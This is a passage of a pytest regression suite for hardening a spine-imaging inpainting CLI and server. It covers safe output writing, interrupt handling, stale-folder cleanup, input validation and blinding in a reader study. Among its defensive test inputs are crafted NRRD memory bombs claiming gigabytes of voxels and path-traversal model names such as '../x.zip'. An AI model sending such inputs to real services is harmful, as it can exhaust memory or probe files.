"""Regression tests of issue #15 (hardening): one or more tests per item, named ``test_itemNN_...``.

They attack the real processes where the issue did: ``python -m spine_ldm inpaint`` subprocesses, a real
``spine-ldm serve`` (port 0, killed with SIGKILL and restarted on the same temporary folder) and a real
``spine-ldm study serve``; the rest runs in process (``cli.main`` with real signals, the study engine). No GPU,
no network beyond 127.0.0.1, no ../shared.
"""
from __future__ import annotations

import csv
import gzip
import hashlib
import json
import os
import re
import select
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
import SimpleITK as sitk

from helpers_models import make_model_zip, make_registry, make_test_volume
from spine_ldm import cli, io, pipeline
from spine_ldm.errors import CancelledError, InputError
from spine_ldm.pipeline import InpaintResult
from test_cli import _events, _vec, setup  # noqa: F401 - the CLI tests' module fixture (scan + random-weights registry)

REPO = Path(__file__).resolve().parents[1]
TOKEN = "hardening-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
LINUX = sys.platform.startswith("linux")


# ---------------------------------------------------------------------------------------------- helpers
def _env(**extra) -> dict:
    env = dict(os.environ, OMP_NUM_THREADS="2", PYTHONUNBUFFERED="1")
    env.pop("SPINE_LDM_MAX_VOXELS", None)
    env.update({k: str(v) for k, v in extra.items()})
    return env


def _cli(args, env=None, cwd=None, timeout=300) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "spine_ldm", *map(str, args)], capture_output=True, text=True,
                          env=env or _env(), cwd=cwd, timeout=timeout)


def _sha(p: Path) -> str:
    return hashlib.sha256(Path(p).read_bytes()).hexdigest()


def _nrrd(sizes, encoding="raw", data=b"") -> bytes:
    """A NRRD claiming ``sizes`` floats with whatever ``data`` follows the header (the issue's memory bombs)."""
    return (f"NRRD0004\ntype: float\ndimension: 3\nsizes: {' '.join(map(str, sizes))}\nendian: little\n"
            f"encoding: {encoding}\n\n").encode() + data


def _files(folder: Path) -> list[str]:
    return sorted(p.name for p in Path(folder).iterdir())


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _wait_http(url: str, proc: subprocess.Popen, log: Path | None = None, timeout: float = 90.0) -> None:
    import httpx

    t0 = time.monotonic()
    while time.monotonic() - t0 < timeout:
        if proc.poll() is not None:
            raise AssertionError(f"server exited with {proc.returncode}: {log.read_text()[-2000:] if log else ''}")
        try:
            if httpx.get(url, timeout=2).status_code == 200:
                return
        except httpx.HTTPError:
            pass
        time.sleep(0.1)
    raise AssertionError(f"{url} did not come up")


def _stop(proc: subprocess.Popen) -> None:
    if proc.poll() is None:
        proc.terminate()
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(timeout=15)


def _vm_hwm_mb(pid: int) -> float:
    """Peak resident memory (VmHWM) of a live process, MB (Linux)."""
    text = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"VmHWM:\s+(\d+) kB", text).group(1)) / 1024


def _inpaint_args(inp, lm, out, regp, *extra):
    return ["inpaint", str(inp), "--landmark", _vec(lm), "--level", "L4-L5", "--condition", "dh_small",
            "--steps", "2", "--device", "cpu", "--registry", str(regp), "--out", str(out), "--progress", "json",
            *extra]


# ============================================================================================== data loss
@pytest.mark.parametrize("how", ["same path", "symlink", "hard link", "sample name"])
def test_item01_output_that_is_the_input_is_refused_before_any_work(setup, tmp_path, how):
    """``inpaint c.nrrd --out c.nrrd`` (or a symlink / hard link to it, or OUT_2 of --samples 2) exits 2 with one
    line, before any work (no 'start' event), and the input keeps its bytes."""
    d, regp, src, lm, disc = setup
    inp = tmp_path / ("c_2.nrrd" if how == "sample name" else "c.nrrd")
    inp.write_bytes(src.read_bytes())
    before, mtime = _sha(inp), inp.stat().st_mtime_ns
    out, extra = inp, []
    if how == "symlink":
        out = tmp_path / "link.nrrd"
        out.symlink_to(inp)
    elif how == "hard link":
        out = tmp_path / "hard.nrrd"
        os.link(inp, out)
    elif how == "sample name":
        out, extra = tmp_path / "c.nrrd", ["--samples", "2"]
    names = _files(tmp_path)
    r = _cli(_inpaint_args(inp, lm, out, regp, *extra))
    assert r.returncode == 2, (r.stdout, r.stderr)
    assert r.stderr.count("\n") == 1 and "is the input file" in r.stderr and str(inp.name) in r.stderr
    ev = _events(r.stdout)
    assert [e["event"] for e in ev] == ["error"] and ev[0]["kind"] == "input"  # no 'start': nothing was done
    assert _sha(inp) == before and inp.stat().st_mtime_ns == mtime
    assert _files(tmp_path) == names


def test_item01_shared_check_refuses_in_write_outputs_and_check_outputs(tmp_path):
    """The backend check the CLI, the server and the Slicer glue share (pipeline.check_outputs, also run by
    write_outputs): a NIfTI output's provenance sidecar counts too, and a DICOM folder's files are inputs."""
    img = sitk.Image([4, 4, 4], sitk.sitkInt16)
    inp = tmp_path / "scan.nrrd"
    sitk.WriteImage(img, str(inp))
    res = InpaintResult(outputs=[img], provenance={"seed": 0}, nfe=1, seconds=0.0, device="cpu", peak_memory_mb=0.0,
                        provenances=[{"seed": 0}])
    with pytest.raises(InputError, match="is the input file"):
        pipeline.write_outputs(res, tmp_path / "." / "scan.nrrd", inputs=[inp])
    side_input = tmp_path / "x.json"  # the sidecar of x.nii.gz would replace it
    side_input.write_text("{}")
    with pytest.raises(InputError, match="is the input file"):
        pipeline.check_outputs(tmp_path / "x.nii.gz", 1, inputs=[side_input])
    dcm = tmp_path / "dicom"
    dcm.mkdir()
    (dcm / "out.nrrd").write_bytes(b"slice")
    with pytest.raises(InputError, match="is the input file"):
        pipeline.check_outputs(dcm / "out.nrrd", 1, inputs=[dcm])
    assert pipeline.check_outputs(tmp_path / "new.nii.gz", 1, inputs=[inp]) == [tmp_path / "new.nii.gz",
                                                                                  tmp_path / "new.json"]
    assert inp.read_bytes() == (tmp_path / "scan.nrrd").read_bytes() and side_input.read_text() == "{}"


def _fake_inpaint(samples=2):
    def run(image, landmark, level, condition, samples=samples, seed=0, **kw):
        img = sitk.ReadImage(str(image))
        outs = [sitk.Cast(img + (k + 1), img.GetPixelID()) for k in range(samples)]
        provs = [{"seed": seed + k, "sample_index": k + 1} for k in range(samples)]
        return InpaintResult(outputs=outs, provenance=provs[0], nfe=1, seconds=0.01, device="cpu",
                             peak_memory_mb=1.0, provenances=provs)
    return run


def _run_cli_with_signal(tmp_path, monkeypatch, capsys, where: str):
    """In-process ``spine-ldm inpaint --samples 2`` (inference replaced by a fake) that sends itself a real SIGINT
    at ``where``: 'writing' (right after the first temporary output is on disk) or 'renamed' (right after the last
    output was renamed into place)."""
    img = sitk.GetImageFromArray(np.arange(6 * 7 * 8, dtype=np.int16).reshape(6, 7, 8))
    inp = tmp_path / "in.nrrd"
    sitk.WriteImage(img, str(inp))
    out = tmp_path / "out" / "x.nrrd"
    monkeypatch.setattr(pipeline, "inpaint", _fake_inpaint())
    sent = []
    if where == "writing":
        real = io.write_volume

        def write_then_interrupt(*a, **k):
            path = real(*a, **k)
            if not sent:
                sent.append(path)
                assert Path(path).exists()  # the temporary file is on disk when the signal comes
                os.kill(os.getpid(), signal.SIGINT)
            return path
        monkeypatch.setattr(io, "write_volume", write_then_interrupt)
    else:
        real_replace = os.replace

        def replace_then_interrupt(a, b, *args, **kw):
            real_replace(a, b, *args, **kw)
            if Path(b).parent == out.parent and Path(b).name == "x_2.nrrd":
                sent.append(b)
                os.kill(os.getpid(), signal.SIGINT)
        monkeypatch.setattr(os, "replace", replace_then_interrupt)
    try:
        rc = cli.main(["inpaint", str(inp), "--landmark", "0,0,0", "--level", "L4-L5", "--condition", "dh_small",
                       "--samples", "2", "--device", "cpu", "--model", "demo-small-weighted", "--out", str(out),
                       "--progress", "json"])
    except KeyboardInterrupt:  # the old code could let it escape at the wrong moment
        rc = "KeyboardInterrupt escaped"
    finally:
        monkeypatch.undo()
    assert sent, "the signal was never sent"
    c = capsys.readouterr()
    return rc, _events(c.out), c.err, out


def _assert_outcome_agrees_with_message(rc, events, err, out):
    outputs = [out.with_name("x_1.nrrd"), out.with_name("x_2.nrrd")]
    left = _files(out.parent) if out.parent.exists() else []
    if rc == 0:
        assert events[-1]["event"] == "done" and events[-1]["outputs"] == [str(p) for p in outputs]
        assert left == ["x_1.nrrd", "x_2.nrrd"]  # complete, reported, no temporary file
        for k, p in enumerate(outputs):
            assert int(sitk.GetArrayFromImage(sitk.ReadImage(str(p)))[0, 0, 0]) == k + 1
    else:
        assert rc == 130 and "nothing was written" in err and err.count("\n") == 1, (rc, err)
        assert left == [], left  # nothing, not even a hidden .x_1.partial<PID>.nrrd


def test_item02_interrupt_while_writing_leaves_no_file(tmp_path, monkeypatch, capsys):
    rc, events, err, out = _run_cli_with_signal(tmp_path, monkeypatch, capsys, "writing")
    _assert_outcome_agrees_with_message(rc, events, err, out)
    assert rc == 130 and events[-1]["kind"] == "cancelled"


def test_item02_interrupt_after_writing_reports_the_complete_outputs(tmp_path, monkeypatch, capsys):
    rc, events, err, out = _run_cli_with_signal(tmp_path, monkeypatch, capsys, "renamed")
    _assert_outcome_agrees_with_message(rc, events, err, out)
    assert rc == 0


def test_item02_write_outputs_is_all_or_nothing_on_any_exception(tmp_path, monkeypatch):
    """Python API (no signal deferral): an exception while writing or renaming removes temporaries and outputs."""
    img = sitk.Image([5, 5, 5], sitk.sitkInt16)
    res = InpaintResult(outputs=[img, img, img], provenance={}, nfe=1, seconds=0.0, device="cpu",
                        peak_memory_mb=0.0, provenances=[{}, {}, {}])
    real = io.write_volume
    calls = []

    def fail_second(*a, **k):
        calls.append(1)
        path = real(*a, **k)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return path
    monkeypatch.setattr(io, "write_volume", fail_second)
    with pytest.raises(KeyboardInterrupt):
        pipeline.write_outputs(res, tmp_path / "a.nrrd")
    assert _files(tmp_path) == []
    monkeypatch.setattr(io, "write_volume", real)
    real_replace = os.replace

    def fail_third_rename(a, b, *args, **kw):
        if Path(b).name == "b_3.nrrd":
            raise OSError(28, "No space left on device", str(b))
        real_replace(a, b, *args, **kw)
    monkeypatch.setattr(os, "replace", fail_third_rename)
    with pytest.raises(InputError, match=r"cannot write '.*b_3\.nrrd': No space left on device"):
        pipeline.write_outputs(res, tmp_path / "b.nrrd")
    monkeypatch.undo()
    assert _files(tmp_path) == []  # b_1, b_2 were already renamed: removed again
    with pytest.raises(CancelledError, match="nothing was written"):
        pipeline.write_outputs(res, tmp_path / "c.nrrd", cancel=lambda: True)
    assert _files(tmp_path) == []


def test_item03_unwritable_output_fails_before_inference(setup, tmp_path):
    """``--out file.nrrd/x.nrrd``: one line naming the path, exit 2, no inference ran (no start/progress event)."""
    d, regp, inp, lm, disc = setup
    blocker = tmp_path / "file.nrrd"
    blocker.write_text("not a folder")
    t0 = time.monotonic()
    r = _cli(_inpaint_args(inp, lm, blocker / "x.nrrd", regp, "--steps", "50"))
    assert r.returncode == 2, r.stderr
    assert r.stderr.count("\n") == 1 and "internal error" not in r.stderr
    assert f"cannot write '{blocker / 'x.nrrd'}'" in r.stderr and "is not a folder" in r.stderr
    assert [e["event"] for e in _events(r.stdout)] == ["error"]
    assert time.monotonic() - t0 < 60


def test_item03_read_only_folder_is_refused_with_the_path(setup, tmp_path, capsys):
    d, regp, inp, lm, disc = setup
    if os.geteuid() != 0:
        ro = tmp_path / "ro"
        ro.mkdir()
        ro.chmod(0o555)
        out = ro / "sub" / "x.nrrd"
        folder = ro
    elif LINUX:  # root ignores permission bits: a folder of a file system that takes no new files
        out, folder = Path("/proc/spine-ldm-hardening/x.nrrd"), Path("/proc")
    else:  # pragma: no cover
        pytest.skip("no unwritable folder available to root here")
    try:
        rc = cli.main(_inpaint_args(inp, lm, out, regp))
    finally:
        if os.geteuid() != 0:
            (tmp_path / "ro").chmod(0o755)
    c = capsys.readouterr()
    assert rc == 2 and c.err.count("\n") == 1
    assert f"cannot write '{out}': folder '{folder}' is not writable" in c.err
    assert [e["event"] for e in _events(c.out)] == ["error"]


# ============================================================================================== resources
def test_item04_memory_bombs_are_refused_by_the_cli_before_allocating(tmp_path):
    """The issue's 1024^3-float raw NRRD (4 GB on the old code) in a fresh parent whose only child is the CLI: exit
    2, one line naming the limit, and the child never got near the claimed size."""
    bomb = tmp_path / "bomb.nrrd"
    bomb.write_bytes(_nrrd((1024, 1024, 1024)))
    assert bomb.stat().st_size < 150
    code = ("import resource, subprocess, sys\n"
            "r = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
            "sys.stdout.write(r.stderr)\n"
            "print('RC', r.returncode, 'MAXRSS_KB', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n")
    r = subprocess.run([sys.executable, "-c", code, sys.executable, "-m", "spine_ldm", "inpaint", str(bomb),
                        "--landmark", "0,0,0", "--level", "L4-L5", "--condition", "dh_small",
                        "--out", str(tmp_path / "o.nrrd")], capture_output=True, text=True, env=_env(), timeout=300)
    m = re.search(r"RC (\d+) MAXRSS_KB (\d+)", r.stdout)
    assert m, (r.stdout, r.stderr)
    assert int(m.group(1)) == 2, r.stdout
    assert "1024x1024x1024 = 1,073,741,824 voxels, over the limit of 134,217,728" in r.stdout
    assert "SPINE_LDM_MAX_VOXELS" in r.stdout
    assert int(m.group(2)) / 1024 < 1000  # MB; the old code allocated the claimed 4096 MB
    assert _files(tmp_path) == ["bomb.nrrd"]


@pytest.mark.parametrize("kind", ["raw", "gzip", "limit from env"])
def test_item04_short_data_and_configurable_limit(tmp_path, capsys, monkeypatch, kind):
    """Under the limit but shorter than claimed (raw: by size; gzip: 1 MB of zeros for 256 MB claimed, counted
    without keeping it) -> 'truncated'; SPINE_LDM_MAX_VOXELS lowers the limit."""
    p = tmp_path / "v.nrrd"
    if kind == "raw":
        p.write_bytes(_nrrd((512, 512, 256)))
        expect = "is truncated: its header claims 512x512x256 voxels (268,435,456 bytes of raw data) but the " \
                 "file holds only 0"
    elif kind == "gzip":
        p.write_bytes(_nrrd((512, 512, 256), "gzip", gzip.compress(bytes(1 << 20))))
        expect = "268,435,456 bytes of gzip-compressed data) but the file holds only 1,048,576"
    else:
        sitk.WriteImage(sitk.Image([20, 20, 20], sitk.sitkFloat32), str(p))
        monkeypatch.setenv("SPINE_LDM_MAX_VOXELS", "5000")
        expect = "claims 20x20x20 = 8,000 voxels, over the limit of 5,000 (set SPINE_LDM_MAX_VOXELS to raise it)"
    rc = cli.main(["inpaint", str(p), "--landmark", "0,0,0", "--level", "L4-L5", "--condition", "dh_small",
                   "--out", str(tmp_path / "o.nrrd"), "--progress", "json"])
    c = capsys.readouterr()
    assert rc == 2 and expect in c.err and c.err.count("\n") == 1, c.err
    assert [e["event"] for e in _events(c.out)] == ["error"]
    with pytest.raises(InputError, match=re.escape(expect)):
        io.read_volume(p)


def test_item04_real_volumes_pass_the_header_check(tmp_path):
    img, lm, disc = make_test_volume()
    for name, compress in (("a.nrrd", True), ("b.nrrd", False), ("c.nii.gz", True), ("d.nii", False),
                           ("e.mha", True), ("f.mha", False), ("g.nhdr", True)):
        sitk.WriteImage(img, str(tmp_path / name), compress)
        assert io.check_volume_file(tmp_path / name)["size"] == img.GetSize()
        np.testing.assert_array_equal(sitk.GetArrayFromImage(io.read_volume(tmp_path / name)),
                                      sitk.GetArrayViewFromImage(img))


# ---------------------------------------------------------------------------------------------- spine-ldm serve
def _start_server(tmp: Path, token_file: Path, registry: Path, cwd: Path, cache: Path, log: Path):
    fh = log.open("w")
    proc = subprocess.Popen([sys.executable, "-m", "spine_ldm", "serve", "--host", "127.0.0.1", "--port", "0",
                             "--token-file", str(token_file), "--registry", str(registry)],
                            stdout=subprocess.PIPE, stderr=fh, text=True, cwd=cwd,
                            env=_env(TMPDIR=tmp, SPINE_LDM_CACHE=cache))
    fh.close()
    try:
        ready, _, _ = select.select([proc.stdout], [], [], 120)
        line = proc.stdout.readline() if ready else ""
        if not line:
            raise AssertionError(f"server did not announce its port: {log.read_text()[-2000:]}")
        url = json.loads(line)["url"]
        _wait_http(url + "/health", proc, log)
    except BaseException:
        _stop(proc)
        raise
    return proc, url


def _roots(tmp: Path) -> list[Path]:
    return sorted(p for p in tmp.iterdir() if p.name.startswith("spine-ldm-server-"))


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """Server A gets a long job, is killed with SIGKILL while it runs (its upload folder stays behind), then
    server B starts on the same temporary folder. Yields what the tests need; B is stopped at the end."""
    import httpx

    base = tmp_path_factory.mktemp("served")
    tmp, cwd, cache = base / "tmp", base / "cwd", base / "cache"
    for d in (tmp, cwd, cache):
        d.mkdir()
    token_file = base / "token.txt"
    token_file.write_text(TOKEN)
    registry = make_registry(base / "reg")
    decoy = tmp / "spine-ldm-server-not-ours"  # same prefix, no marker: never touched
    decoy.mkdir()
    (decoy / "keep.txt").write_text("x")
    img, lm, disc = make_test_volume()
    scan = base / "scan.nrrd"
    sitk.WriteImage(img, str(scan))
    procs = []
    try:
        a, url_a = _start_server(tmp, token_file, registry, cwd, cache, base / "a.log")
        procs.append(a)
        (root_a,) = [r for r in _roots(tmp) if r != decoy]
        params = {"landmark_lps": list(lm), "disc_center_lps": list(disc), "level": "L4-L5",
                  "condition": "dh_small", "steps": 1000, "device": "cpu"}
        r = httpx.post(url_a + "/jobs", headers=AUTH, timeout=30, files={
            "image": ("scan.nrrd", scan.read_bytes()), "params": (None, json.dumps(params))})
        assert r.status_code == 202, r.text
        jid = r.json()["id"]
        t0 = time.monotonic()
        while httpx.get(f"{url_a}/jobs/{jid}", headers=AUTH, timeout=30).json()["status"] != "running":
            assert time.monotonic() - t0 < 60
            time.sleep(0.1)
        assert (root_a / jid / "input.nrrd").is_file()
        a.kill()
        a.wait(timeout=30)
        assert root_a.is_dir()  # SIGKILL: nothing could clean up
        b, url_b = _start_server(tmp, token_file, registry, cwd, cache, base / "b.log")
        procs.append(b)
        yield {"url": url_b, "proc": b, "log": base / "b.log", "tmp": tmp, "cwd": cwd, "cache": cache,
               "root_a": root_a, "job_a": jid, "decoy": decoy, "base": base, "token_file": token_file,
               "registry": registry, "scan": scan, "lm": lm}
    finally:
        for p in procs:
            _stop(p)


def test_item06_stale_upload_folders_are_removed_at_start_and_logged(served):
    import httpx

    tmp, root_a = served["tmp"], served["root_a"]
    assert not root_a.exists()
    assert (served["decoy"] / "keep.txt").read_text() == "x"
    log = served["log"].read_text()
    assert "removed 1 stale upload folder(s)" in log and str(root_a) in log
    (root_b,) = [r for r in _roots(tmp) if r != served["decoy"]]
    assert (root_b / ".spine-ldm-server").is_file()
    # a second server started while B runs must leave B's folder (and its uploads) alone
    c, url_c = _start_server(tmp, served["token_file"], served["registry"], served["cwd"], served["cache"],
                             served["base"] / "c.log")
    try:
        assert root_b.is_dir() and "stale" not in (served["base"] / "c.log").read_text()
        assert httpx.get(served["url"] + "/health", timeout=10).json()["status"] == "ok"
    finally:
        _stop(c)
    assert len([r for r in _roots(tmp) if r != served["decoy"]]) == 1  # C removed its own folder on exit


def test_item14_old_job_id_after_restart_says_the_server_restarted(served):
    import httpx

    url, jid = served["url"], served["job_a"]
    for method in ("GET", "DELETE"):
        r = httpx.request(method, f"{url}/jobs/{jid}", headers=AUTH, timeout=10)
        assert r.status_code == 404
        detail = r.json()["detail"]
        assert "restarted" in detail and "in memory" in detail and "60 min" not in detail, detail
    r = httpx.get(f"{url}/jobs/{'0' * 32}", headers=AUTH, timeout=10)
    assert r.status_code == 404


def _submit(url, params_text: str, image: bytes):
    import httpx

    return httpx.post(url + "/jobs", headers=AUTH, timeout=60,
                      files={"image": ("scan.nrrd", image), "params": (None, params_text)})


def test_item04_server_refuses_memory_bombs_at_upload(served):
    import httpx

    url, pid = served["url"], served["proc"].pid
    before = _vm_hwm_mb(pid) if LINUX else None
    params = json.dumps({"landmark_lps": [0, 0, 0], "level": "L4-L5", "condition": "dh_small"})
    for blob, words in ((_nrrd((1024, 1024, 1024)), "over the limit of 134,217,728"),
                        (_nrrd((1024, 1024, 512), "gzip", gzip.compress(bytes(1 << 20))), "over the limit"),
                        (_nrrd((512, 512, 256)), "is truncated")):
        r = _submit(url, params, blob)
        assert r.status_code == 422 and words in r.json()["detail"], r.text
    assert httpx.get(url + "/health", timeout=10).json()["queued"] == 0
    if LINUX:
        assert _vm_hwm_mb(pid) - before < 300  # the old server grew by the claimed GBs
    assert len(list(_roots(served["tmp"])[0].iterdir())) <= 2  # no job folder kept for a refused upload


def test_item11_clients_name_registered_model_ids_only(served):
    """A zip or a file in the server's working folder is no model: same 422 whether the file exists or not, and
    nothing is unpacked into the cache."""
    cwd, cache, scan, lm = served["cwd"], served["cache"], served["scan"], served["lm"]
    make_model_zip(cwd / "x.zip")
    (cwd / "README.md").write_text("# secret\n")
    details = {}
    for model in ("x.zip", "README.md", "nothing-here.md", "../x.zip", "Models.json"):
        params = {"landmark_lps": list(lm), "level": "L4-L5", "condition": "dh_small", "model": model}
        r = _submit(served["url"], json.dumps(params), scan.read_bytes())
        assert r.status_code == 422, (model, r.text)
        details[model] = r.json()["detail"].replace(model, "<m>")
    assert details["README.md"] == details["nothing-here.md"] == details["x.zip"]  # no existence oracle
    assert "not a registered model id" in details["x.zip"]
    assert not (cache / "unpacked").exists() and not list(cache.rglob("model.json"))
    ok = {"landmark_lps": list(lm), "level": "L4-L5", "condition": "dh_small", "model": "demo-small-weighted",
          "steps": 1}
    r = _submit(served["url"], json.dumps(ok), scan.read_bytes())
    assert r.status_code == 202, r.text


def test_item12_no_unauthenticated_api_description(served):
    import httpx

    for path in ("/openapi.json", "/docs", "/redoc", "/docs/oauth2-redirect"):
        for headers in ({}, AUTH):
            r = httpx.get(served["url"] + path, headers=headers, timeout=10)
            assert r.status_code in (401, 404), (path, r.status_code)
            assert "openapi" not in r.text.lower() and "swagger" not in r.text.lower()
    assert httpx.get(served["url"] + "/health", timeout=10).status_code == 200
    assert httpx.get(served["url"] + "/models", timeout=10).status_code == 401


@pytest.mark.parametrize("bad", ["NaN", "Infinity", "-Infinity", "1e999"])
def test_item13_non_finite_params_are_refused_at_submission(served, bad):
    """``"landmark_lps": [NaN, 0, 0]`` (and Infinity, a number that overflows to it, a non-finite sigma): 422 at
    submission; the old server accepted the job and answered 500 to every status request after."""
    import httpx

    url = served["url"]
    for text in ('{"landmark_lps": [%s, 0, 0], "level": "L4-L5", "condition": "dh_small"}' % bad,
                 '{"landmark_lps": [0, 0, 0], "disc_center_lps": [0, %s, 0], "level": "L4-L5", '
                 '"condition": "dh_small"}' % bad,
                 '{"landmark_lps": [0, 0, 0], "sigma_mm": %s, "level": "L4-L5", "condition": "dh_small"}' % bad):
        r = _submit(url, text, served["scan"].read_bytes())
        assert r.status_code == 422 and "invalid params" in r.json()["detail"], (text, r.text)
    assert httpx.get(url + "/health", timeout=10).json()["queued"] == 0


def test_item15_folder_without_dicom_gives_one_line_no_itk_warnings(tmp_path, capfd):
    empty = tmp_path / "empty"
    empty.mkdir()
    other = tmp_path / "notes"
    other.mkdir()
    (other / "readme.txt").write_text("no DICOM here")
    for folder in (empty, other):
        with pytest.raises(InputError, match="no volume file or DICOM series found in folder"):
            io.read_volume(folder)
    captured = capfd.readouterr()  # ITK writes its warnings to the C stderr: captured at the file descriptor
    assert "WARNING" not in captured.err and "No Series" not in captured.err, captured.err
    with pytest.raises(InputError, match="no volume file or DICOM series found in folder"):
        io.check_volume_file(other)
    assert capfd.readouterr().err == ""
    r = _cli(["inpaint", str(other), "--landmark", "0,0,0", "--level", "L4-L5", "--condition", "dh_small",
              "--out", str(tmp_path / "o.nrrd")])
    assert r.returncode == 2 and r.stderr == f"spine-ldm: error: no volume file or DICOM series found in folder " \
                                             f"'{other}'\n", r.stderr
    assert sitk.ProcessObject.GetGlobalWarningDisplay()  # switched back on after the probe


# ============================================================================================== reader study
def _scan_volume(seed: int, size=(40, 72, 72), spacing=(3.0, 1.0, 1.0), tilt_deg=0.0) -> sitk.Image:
    """A sagittal-like scan of smooth random texture (every seed a different scan)."""
    rng = np.random.default_rng(seed)
    arr = rng.normal(0, 1, size[::-1]).astype(np.float32)
    img = sitk.SmoothingRecursiveGaussian(sitk.GetImageFromArray(arr), 1.0)
    a = sitk.GetArrayFromImage(img)
    out = sitk.GetImageFromArray(((a - a.min()) / (a.max() - a.min()) * 900 + 50).astype(np.int16))
    ang = np.deg2rad(tilt_deg)
    rot = np.array([[1, 0, 0], [0, np.cos(ang), -np.sin(ang)], [0, np.sin(ang), np.cos(ang)]])
    d = rot @ np.diag([-1.0, 1.0, -1.0])
    out.SetSpacing(spacing)
    out.SetDirection(tuple(d.reshape(-1)))
    centre = np.array([rng.uniform(-20, 20), rng.uniform(-30, 30), rng.uniform(-60, 60)])
    out.SetOrigin(tuple(centre - (d * np.asarray(spacing)) @ ((np.asarray(size) - 1) / 2.0)))
    return out


def _study_sources(folder: Path, n_real=6, n_inpainted=6):
    """Real cases in a CSV WITHOUT disc_center_lps (documented optional); inpainted ones with provenance, half of
    them with the estimated disc centre (20 mm anterior of the landmark), half with a given one: the situation
    in which the old engine served tell-tale origins."""
    folder.mkdir(parents=True, exist_ok=True)
    rows = []
    for k in range(n_real):
        img = _scan_volume(100 + k, tilt_deg=[0, 6, -4][k % 3])
        lm = img.TransformContinuousIndexToPhysicalPoint([(s - 1) / 2 + 1.3 * (k % 2) for s in img.GetSize()])
        sitk.WriteImage(img, str(folder / f"real_{k}.nrrd"), True)
        rows.append({"path": f"real_{k}.nrrd", "level": "L4-L5", "condition": "none" if k % 2 else "dh_small",
                     "landmark_lps": " ".join(f"{v:.3f}" for v in lm)})
    with (folder / "real.csv").open("w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=["path", "level", "condition", "landmark_lps"])
        w.writeheader()
        w.writerows(rows)
    for k in range(n_inpainted):
        img = _scan_volume(200 + k, tilt_deg=[0, 6, -4][k % 3])
        lm = np.asarray(img.TransformContinuousIndexToPhysicalPoint([(s - 1) / 2 - 0.7 * (k % 2)
                                                                     for s in img.GetSize()]))
        disc = lm + ([0.0, -20.0, 0.0] if k % 2 else [0.4, -17.3, 1.1])
        prov = {"method": ["weighted", "masked", "repaint"][k % 3], "level": "L4-L5", "condition": "dh_small",
                "landmark_lps": json.dumps([round(float(v), 4) for v in lm]),
                "disc_center_lps": json.dumps([round(float(v), 4) for v in disc]), "input": f"scan_{k}.nrrd"}
        for key, v in prov.items():
            img.SetMetaData(f"spine_ldm_{key}", v)
        sitk.WriteImage(img, str(folder / f"inp_{k}.nrrd"), True)
    return folder / "real.csv", str(folder / "inp_*.nrrd")


def _features(study, case_id: str) -> dict:
    """Every header field of the served NRRD plus the landmark's continuous voxel position."""
    from spine_ldm.study import blind

    p = study.volume_path(case_id)
    f = dict(blind.nrrd_header_fields(p))
    img = sitk.ReadImage(str(p))
    f["landmark_voxel"] = " ".join(f"{v:.6f}" for v in img.TransformPhysicalPointToContinuousIndex((0.0, 0.0, 0.0)))
    return f


def _loo_nearest_neighbour_accuracy(rows: list[dict], labels: list[str], keys: list[str]) -> float:
    """Leave-one-out accuracy of a nearest-neighbour classifier (ties vote) on the given header features: numbers
    in a field are compared by absolute difference, text by equality."""
    def vec(r, k):
        nums = re.findall(r"[-+]?\d*\.?\d+(?:[eE][-+]?\d+)?", str(r.get(k, "")))
        return [float(x) for x in nums], re.sub(r"[-+]?\d*\.?\d+(?:[eE][-+]?\d+)?", "#", str(r.get(k, "")))

    def dist(a, b):
        d = 0.0
        for k in keys:
            (na, ta), (nb, tb) = vec(a, k), vec(b, k)
            d += 1e6 if (ta != tb or len(na) != len(nb)) else sum(abs(x - y) for x, y in zip(na, nb))
        return d

    right = 0
    for i, r in enumerate(rows):
        ds = [(dist(r, o), labels[j]) for j, o in enumerate(rows) if j != i]
        best = min(d for d, _ in ds)
        votes = [lab for d, lab in ds if d == best]
        guess = max(sorted(set(votes)), key=votes.count)
        right += guess == labels[i]
    return right / len(rows)


def test_item07_served_geometry_does_not_tell_real_from_inpainted(tmp_path):
    from spine_ldm.study.engine import create_study, inpainted_sources, real_sources

    real_csv, inp_glob = _study_sources(tmp_path / "src")
    st = create_study(tmp_path / "S", inpainted_sources(inp_glob), real_sources(real_csv), seed=3)
    truth = st.load_truth()
    ids = sorted(st.case_ids)
    rows = [_features(st, cid) for cid in ids]
    labels = ["real" if truth[cid]["truth"] != "inpainted" else "inpainted" for cid in ids]
    assert labels.count("real") == 6 and labels.count("inpainted") == 6
    keys = sorted(set().union(*rows))
    assert {"space origin", "space directions", "sizes", "landmark_voxel"} <= set(keys)
    # every header field and the landmark's voxel position, alone and together: nothing better than chance (0.5)
    for k in keys + [None]:
        acc = _loo_nearest_neighbour_accuracy(rows, labels, keys if k is None else [k])
        assert acc <= 0.6, (k, acc, [r.get(k) for r in rows] if k else None)
    # and the reason: one canonical grid, landmark at the centre voxel, for every case
    assert len({json.dumps(r, sort_keys=True) for r in rows}) == 1
    img = sitk.ReadImage(str(st.volume_path(ids[0])))
    assert img.GetDirection() == pytest.approx((-1, 0, 0, 0, 1, 0, 0, 0, -1))
    np.testing.assert_allclose(img.TransformPhysicalPointToContinuousIndex((0, 0, 0)),
                               [(s - 1) / 2 for s in img.GetSize()], atol=1e-6)
    # the served voxels are the scan around the landmark (same rule for both kinds): check one real case
    cid = next(c for c in ids if truth[c]["truth"] != "inpainted")
    src = sitk.ReadImage(truth[cid]["source"])
    lm = truth[cid]["landmark_lps"]
    served = sitk.ReadImage(str(st.volume_path(cid)))
    centre = [(s - 1) // 2 for s in served.GetSize()]
    expected = src.EvaluateAtPhysicalPoint(served.TransformIndexToPhysicalPoint(centre) + np.asarray(lm),
                                           sitk.sitkLinear)
    assert served[centre] == pytest.approx(expected, rel=1e-4, abs=1e-2)


def _assert_private(root: Path) -> list[str]:
    seen = []
    for p in [root, *root.rglob("*")]:
        mode = p.stat().st_mode & 0o777
